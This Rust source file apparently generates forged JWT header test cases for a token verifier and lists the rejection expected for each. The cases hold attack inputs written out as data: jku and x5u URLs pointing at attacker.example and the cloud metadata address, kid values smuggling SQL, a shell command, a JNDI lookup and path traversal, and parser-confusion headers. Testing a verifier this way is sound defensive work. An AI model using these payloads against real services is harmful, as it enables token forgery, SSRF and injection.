//! Members of the header that name a key or change how a token is read (RFC 7515, section 4.1; RFC 8725, section 3.10).

use aws_lc_rs::hmac::HMAC_SHA256;

use crate::{
    Attack,
    expected::{ALG, CRIT, HEADER as NOT_AN_OBJECT, MEMBER, SIGNATURE, TYP},
    forge::{ATTACKER, CLAIMS, account, attacker, hmac},
};

pub(crate) fn attacks() -> Vec<Attack> {
    [keys(), key_ids(), members(), json()].concat()
}

fn header(members: &str) -> String {
    format!(r#"{{"alg":"RS256","typ":"JWT",{members}}}"#)
}

/// Keys of the attacker.
fn keys() -> Vec<Attack> {
    let own = |members: &str| attacker(&header(members));
    let jwk = ATTACKER.public.to_jwk();
    vec![
        ("jku", own(r#""jku":"https://attacker.example/jwks.json""#), MEMBER),
        ("jku of Cobrowse with user info", own(r#""jku":"https://cobrowse.io@attacker.example/jwks.json""#), MEMBER),
        ("jku of the metadata service", own(r#""jku":"http://169.254.169.254/latest/meta-data/""#), MEMBER),
        ("jku of a file", own(r#""jku":"file:///etc/passwd""#), MEMBER),
        ("jku by the account's key", account(header(r#""jku":"https://attacker.example/""#), CLAIMS), MEMBER),
        ("jwk", own(&format!(r#""jwk":{jwk}"#)), MEMBER),
        ("jwk and kid", own(&format!(r#""kid":"1","jwk":{jwk}"#)), MEMBER),
        ("jwk of a symmetric key", hmac(&header(r#""jwk":{"kty":"oct","k":""}"#), HMAC_SHA256, ""), MEMBER),
        ("jwk by the account's key", account(header(&format!(r#""jwk":{jwk}"#)), CLAIMS), MEMBER),
        ("x5u", own(r#""x5u":"https://attacker.example/chain.pem""#), MEMBER),
        ("x5u by the account's key", account(header(r#""x5u":"https://attacker.example/""#), CLAIMS), MEMBER),
        ("x5c", own(r#""x5c":["MIIB"]"#), MEMBER),
        ("x5t", own(r#""x5t":"AAAA""#), MEMBER),
        ("x5t#S256", own(r#""x5t#S256":"AAAA""#), MEMBER),
        ("jku with escapes", own(r#""\u006aku":"https://attacker.example/jwks.json""#), MEMBER),
        ("JKU", own(r#""JKU":"https://attacker.example/jwks.json""#), MEMBER),
    ]
}

/// The verifier does not use `kid`, so the attacker's key is not found by any.
fn key_ids() -> Vec<Attack> {
    let own = |kid: &str| attacker(&header(&format!(r#""kid":"{kid}""#)));
    let hs256 =
        |kid: &str, secret: &str| hmac(&format!(r#"{{"alg":"HS256","typ":"JWT","kid":"{kid}"}}"#), HMAC_SHA256, secret);
    vec![
        ("kid of the attacker's key", own(ATTACKER.public.thumbprint()), SIGNATURE),
        ("kid of an absolute path", own("/etc/passwd"), SIGNATURE),
        ("kid of a relative path", own("../../../../dev/null"), SIGNATURE),
        ("kid of a Windows path", own(r"C:\\Windows\\win.ini"), SIGNATURE),
        ("kid of a UNC path", own(r"\\\\attacker.example\\share\\key.pem"), SIGNATURE),
        ("kid of a path with a NUL", own(r"key.pem\u0000.jwk"), SIGNATURE),
        ("kid of an https URL", own("https://attacker.example/key.pem"), SIGNATURE),
        ("kid of a file URL", own("file:///dev/null"), SIGNATURE),
        ("kid of an LDAP URL", own("ldap://attacker.example/a"), SIGNATURE),
        ("kid of a JNDI lookup", own("${jndi:ldap://attacker.example/a}"), SIGNATURE),
        ("kid with SQL", own("x' UNION SELECT 'key'; --"), SIGNATURE),
        ("kid with a shell command", own("|sleep 10"), SIGNATURE),
        ("kid with a template", own("{{7*7}}"), SIGNATURE),
        ("kid with line breaks", own(r"a\r\nb"), SIGNATURE),
        ("kid with a bidirectional override", own(r"\u202egnp"), SIGNATURE),
        ("an empty kid", own(""), SIGNATURE),
        ("kid of 40,000 bytes", own(&"k".repeat(40_000)), SIGNATURE),
        ("kid of /dev/null with HS256", hs256("/dev/null", ""), ALG),
        ("kid of a known file with HS256", hs256("/proc/sys/kernel/randomize_va_space", "2\n"), ALG),
        ("kid with SQL and HS256", hs256("x' UNION SELECT 'key", "key"), ALG),
        ("kid as a number", account(header(r#""kid":1"#), CLAIMS), MEMBER),
        ("kid as null", account(header(r#""kid":null"#), CLAIMS), MEMBER),
        ("kid as an array", account(header(r#""kid":["a"]"#), CLAIMS), MEMBER),
        ("kid as an object", account(header(r#""kid":{"$ne":""}"#), CLAIMS), MEMBER),
    ]
}

fn members() -> Vec<Attack> {
    let member = |member: &str| account(header(member), CLAIMS);
    let typ = |typ: &str| account(format!(r#"{{"alg":"RS256","typ":{typ}}}"#), CLAIMS);
    vec![
        ("crit of exp", member(r#""crit":["exp"]"#), CRIT),
        ("crit of an unknown extension", member(r#""crit":["https://attacker.example/x"]"#), CRIT),
        ("crit of b64", member(r#""crit":["b64"],"b64":false"#), CRIT),
        ("crit of alg", member(r#""crit":["alg"]"#), CRIT),
        ("an empty crit", member(r#""crit":[]"#), CRIT),
        ("crit as null", member(r#""crit":null"#), CRIT),
        ("crit as a string", member(r#""crit":"exp""#), CRIT),
        ("crit with escapes", member(r#""\u0063rit":["exp"]"#), CRIT),
        ("Crit", member(r#""Crit":["exp"]"#), MEMBER),
        ("b64 without crit", member(r#""b64":false"#), MEMBER),
        ("cty of a nested token", member(r#""cty":"JWT""#), MEMBER),
        ("zip", member(r#""zip":"DEF""#), MEMBER),
        ("enc", member(r#""enc":"A256GCM""#), MEMBER),
        ("p2c", member(r#""p2c":2147483647"#), MEMBER),
        ("exp in the header", member(r#""exp":99999999999"#), MEMBER),
        ("iss in the header", member(r#""iss":"SPGqPIcVnsOEJQ""#), MEMBER),
        ("an empty member name", member(r#""":1"#), MEMBER),
        ("__proto__ in the header", member(r#""__proto__":{"alg":"none"}"#), MEMBER),
        ("kid with a Cyrillic letter", member(r#""kіd":"1""#), MEMBER),
        ("jwt in lower case", typ(r#""jwt""#), TYP),
        ("typ of an access token", typ(r#""at+jwt""#), TYP),
        ("typ of a DPoP proof", typ(r#""dpop+jwt""#), TYP),
        ("typ of a security event", typ(r#""secevent+jwt""#), TYP),
        ("typ with its prefix", typ(r#""application/jwt""#), TYP),
        ("typ with a space", typ(r#""JWT ""#), TYP),
        ("typ in full-width letters", typ(r#""ＪＷＴ""#), TYP),
        ("typ as null", typ("null"), TYP),
        ("typ as an array", typ(r#"["JWT"]"#), TYP),
    ]
}

/// Headers that parsers read differently.
fn json() -> Vec<Attack> {
    let text = |header: &str| account(header, CLAIMS);
    let bytes = |header: &[u8]| account(header, CLAIMS);
    vec![
        ("duplicate alg", text(r#"{"alg":"RS256","alg":"none","typ":"JWT"}"#), NOT_AN_OBJECT),
        ("duplicate alg, none first", text(r#"{"alg":"none","alg":"RS256","typ":"JWT"}"#), NOT_AN_OBJECT),
        ("duplicate alg with escapes", text(r#"{"alg":"RS256","\u0061lg":"none","typ":"JWT"}"#), NOT_AN_OBJECT),
        ("duplicate typ", text(r#"{"alg":"RS256","typ":"JWT","typ":"JWT"}"#), NOT_AN_OBJECT),
        ("duplicate kid", text(&header(r#""kid":"a","kid":"b""#)), NOT_AN_OBJECT),
        ("duplicate member of a jwk", text(&header(r#""jwk":{"kty":"RSA","kty":"oct"}"#)), NOT_AN_OBJECT),
        ("duplicate member 50 levels deep", text(&header(&nested(50, r#"{"a":1,"a":2}"#))), NOT_AN_OBJECT),
        ("a header that is an array", text(r#"["RS256"]"#), NOT_AN_OBJECT),
        ("a header that is a string", text(r#""RS256""#), NOT_AN_OBJECT),
        ("a header that is null", text("null"), NOT_AN_OBJECT),
        ("a header without bytes", text(""), NOT_AN_OBJECT),
        ("two headers", text(r#"{"alg":"RS256","typ":"JWT"}{"alg":"none"}"#), NOT_AN_OBJECT),
        ("a header with a byte order mark", text("\u{feff}{\"alg\":\"RS256\",\"typ\":\"JWT\"}"), NOT_AN_OBJECT),
        ("a header with a comment", text(r#"{"alg":"RS256",/**/"typ":"JWT"}"#), NOT_AN_OBJECT),
        ("a header with a final comma", text(r#"{"alg":"RS256","typ":"JWT",}"#), NOT_AN_OBJECT),
        ("a header with single quotes", text("{'alg':'RS256','typ':'JWT'}"), NOT_AN_OBJECT),
        ("a header with a NUL after it", text("{\"alg\":\"RS256\",\"typ\":\"JWT\"}\0"), NOT_AN_OBJECT),
        ("a header with a lone surrogate", text(&header(r#""kid":"\ud800""#)), NOT_AN_OBJECT),
        ("a header in Latin-1", bytes(b"{\"alg\":\"RS256\",\"typ\":\"JWT\",\"kid\":\"\xe9\"}"), NOT_AN_OBJECT),
        (
            "a header in overlong UTF-8",
            bytes(b"{\"alg\":\"RS256\",\"typ\":\"JWT\",\"kid\":\"\xc0\xaf\"}"),
            NOT_AN_OBJECT,
        ),
        ("a header in UTF-16", bytes(&utf16(r#"{"alg":"RS256","typ":"JWT"}"#)), NOT_AN_OBJECT),
        ("a header of 200 levels", text(&header(&nested(200, "1"))), NOT_AN_OBJECT),
        ("a header of 20,000 open arrays", text(&"[".repeat(20_000)), NOT_AN_OBJECT),
    ]
}

fn nested(levels: usize, innermost: &str) -> String {
    format!(r#""kid":{}{innermost}{}"#, "[".repeat(levels), "]".repeat(levels))
}

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}
